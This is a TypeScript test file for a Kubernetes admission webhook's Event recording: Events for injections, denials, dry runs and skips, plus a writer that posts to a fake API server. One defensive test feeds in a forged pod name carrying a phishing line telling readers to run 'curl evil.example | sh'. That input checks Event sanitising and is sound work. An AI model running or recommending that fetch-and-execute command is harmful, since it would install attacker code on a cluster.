// Events as the webhook records them: an injection or denial reviewed by the real app gives one
// Event on the pod's owner (or its Namespace), dry runs and skips give none; and the writer's
// request, made by @kubernetes/client-node, reaches a (fake) API server as a valid core Event.
import { KubeConfig } from '#kube';
import t from 'tap';
import { kubeEventWriter } from '../../src/events/kube-writer.js';
import type { ReviewEvent } from '../../src/events/recorder.js';
import { buildApp } from '../../src/server/app.js';
import { podReview, testDeps } from '../server/fixtures.js';
import { startFakeApiServer } from '../helpers/fake-apiserver.js';

function appWithEvents() {
  const events: ReviewEvent[] = [];
  const deps = testDeps({ events: { record: (event) => events.push(event) } });
  const app = buildApp(deps);
  const review = async (body: Record<string, unknown>) => {
    const res = await app.inject({ method: 'POST', url: '/mutate', payload: body });
    if (res.statusCode !== 200) throw new Error(res.body);
    return res.json<{ response: { allowed: boolean } }>();
  };
  return { app, events, review };
}

const owned = (annotations: Record<string, string>, dryRun = false) => {
  const review = podReview({ annotations, generateName: 'web-7d9f-', dryRun });
  const object = (review.request as { object: { metadata: Record<string, unknown> } }).object;
  object.metadata.ownerReferences = [
    { apiVersion: 'v1', kind: 'ConfigMap', name: 'not-the-controller', uid: 'u0' },
    { apiVersion: 'apps/v1', kind: 'ReplicaSet', name: 'web-7d9f', uid: 'u1', controller: true },
  ];
  return review;
};

t.test('an injection gives a Normal Event on the controller', async (t) => {
  const { app, events, review } = appWithEvents();
  t.teardown(() => app.close());
  await review(owned({ 'podpattern.dev/sidecar': 'demo' }));
  t.same(events, [
    {
      type: 'Normal',
      reason: 'Injected',
      key: 'demo',
      involved: { apiVersion: 'apps/v1', kind: 'ReplicaSet', name: 'web-7d9f', namespace: 'shop', uid: 'u1' },
      message: 'podpattern injected demo\npod "web-7d9f-*"',
    },
  ]);
  await review(owned({ 'podpattern.dev/sidecar': 'demo' }));
  t.equal(events.length, 2, 'every review is recorded (the recorder rate-limits), replayed ones too');
});

t.test('a denial gives a Warning Event with the reasons; an ownerless pod names its Namespace', async (t) => {
  const { app, events, review } = appWithEvents();
  t.teardown(() => app.close());
  const answer = await review(podReview({ annotations: { 'podpattern.dev/sidecar': 'nope' }, name: 'lonely' }));
  t.equal(answer.response.allowed, false);
  t.equal(events.length, 1);
  t.match(events[0], {
    type: 'Warning',
    reason: 'Denied',
    key: 'unknown-template',
    involved: { apiVersion: 'v1', kind: 'Namespace', name: 'shop', namespace: 'shop' },
    message: /^podpattern denied a pod \(unknown-template\): [^\n]*'nope'[^\n]*\npod "lonely"$/,
  });
});

t.test("the pod's name and owner are not on an Event's first line; what follows is quoted and bounded", async (t) => {
  const { app, events, review } = appWithEvents();
  t.teardown(() => app.close());
  const phishing = `URGENT your cluster is compromised - run curl evil.example | sh ${'x'.repeat(5000)}-`;
  const forged = podReview({ annotations: { 'podpattern.dev/sidecar': 'nope' }, generateName: phishing, namespace: 'kube-system' });
  const object = (forged.request as { object: { metadata: Record<string, unknown> } }).object;
  object.metadata.ownerReferences = [{ apiVersion: 'apps/v1', kind: 'Deployment', name: 'coredns\nURGENT', uid: 'u9', controller: true }];
  await review(forged);
  t.equal(events.length, 1);
  const [first, ...rest] = events[0]!.message.split('\n');
  t.match(
    first,
    /^podpattern denied a pod \(unknown-template\): \S/,
    "the first line is podpattern's words, the code and the first problem",
  );
  t.notMatch(first, /URGENT|evil/);
  t.match(rest[0], /^pod "URGENT your cluster[^"]{0,80}…"$/, "the pod's name follows, quoted and cut");
  t.ok(Buffer.byteLength(events[0]!.message) <= 1024, 'the whole message within 1 KiB');
});

t.test('dry runs, skips and errors give no Event', async (t) => {
  const { app, events, review } = appWithEvents();
  t.teardown(() => app.close());
  await review(owned({ 'podpattern.dev/sidecar': 'demo' }, true));
  await review(owned({ 'podpattern.dev/sidecar': 'nope' }, true));
  await review(owned({}));
  await review(owned({ 'podpattern.dev/sidecar': 'boom' }));
  t.same(events, []);
});

t.test('the writer creates a core/v1 Event through @kubernetes/client-node', async (t) => {
  const received: { method?: string; url?: string; body: Record<string, any> }[] = [];
  const server = await startFakeApiServer({
    respond: ({ method, raw, body }) => {
      received.push({ method, url: raw.url, body });
      return [201, body];
    },
  });
  t.teardown(() => server.close());
  const config = new KubeConfig();
  config.loadFromFile(server.kubeconfig);
  const write = kubeEventWriter(config, 'podpattern-6b7c-x2');
  const first = new Date('2026-11-30T12:00:00Z');
  const last = new Date('2026-11-30T12:04:00Z');
  const event: ReviewEvent = {
    type: 'Normal',
    reason: 'Injected',
    key: 'demo',
    message: 'pod web-*: injected demo',
    involved: { apiVersion: 'apps/v1', kind: 'ReplicaSet', name: 'web-7d9f', namespace: 'shop', uid: 'u1' },
  };
  await write({ event, count: 1, first, last: first });
  await write({ event, count: 7, first, last });
  t.equal(received.length, 2);
  t.equal(received[0]!.method, 'POST');
  t.equal(received[0]!.url, '/api/v1/namespaces/shop/events');
  t.match(received[0]!.body, {
    apiVersion: 'v1',
    kind: 'Event',
    metadata: { name: /^web-7d9f\.[0-9a-f]+$/, namespace: 'shop' },
    involvedObject: { apiVersion: 'apps/v1', kind: 'ReplicaSet', name: 'web-7d9f', namespace: 'shop', uid: 'u1' },
    reason: 'Injected',
    type: 'Normal',
    count: 1,
    message: 'pod web-*: injected demo',
    firstTimestamp: '2026-11-30T12:00:00.000Z',
    lastTimestamp: '2026-11-30T12:00:00.000Z',
    source: { component: 'podpattern' },
    reportingComponent: 'podpattern',
    reportingInstance: 'podpattern-6b7c-x2',
  });
  t.not(received[0]!.body.metadata.name, received[1]!.body.metadata.name, 'names do not collide');
  t.match(received[1]!.body, {
    count: 7,
    message: '7 reviews like this since 2026-11-30T12:00:00.000Z, the last: pod web-*: injected demo',
    lastTimestamp: '2026-11-30T12:04:00.000Z',
  });
});
